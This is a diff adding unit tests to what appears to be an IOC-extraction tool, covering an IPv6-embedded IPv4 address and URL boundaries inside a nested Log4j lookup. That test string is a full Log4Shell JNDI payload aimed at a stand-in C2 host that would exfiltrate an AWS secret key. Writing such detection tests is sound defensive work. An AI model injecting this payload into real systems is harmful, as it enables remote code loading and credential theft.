@@ -185,3 +185,20 @@ def test_url_glued_after_a_bbcode_tag_is_still_found() -> None:
     assert IocExtractor().extract(text, types=["url"]) == {
         "url": {"http://one.evil.ws/x", "http://two.evil.ws/y", "http://three.evil.ws"}
     }
+
+
+def test_zero_padded_ipv4_inside_ipv6_keeps_the_whole_span() -> None:
+    text = "::ffff:010.001.002.003 here"
+    assert _matches(text) == [
+        ("ipv6", "::ffff:10.1.2.3", "::ffff:010.001.002.003"),
+        ("ipv4", "10.1.2.3", "::ffff:010.001.002.003"),
+    ]
+
+
+def test_nested_log4j_lookup_is_not_part_of_the_url() -> None:
+    text = "${jndi:ldap://log4j-c2.net:1389/${env:AWS_SECRET_ACCESS_KEY}}"
+    assert _matches(text)[0] == (
+        "url",
+        "ldap://log4j-c2.net:1389/",
+        "ldap://log4j-c2.net:1389/",
+    )
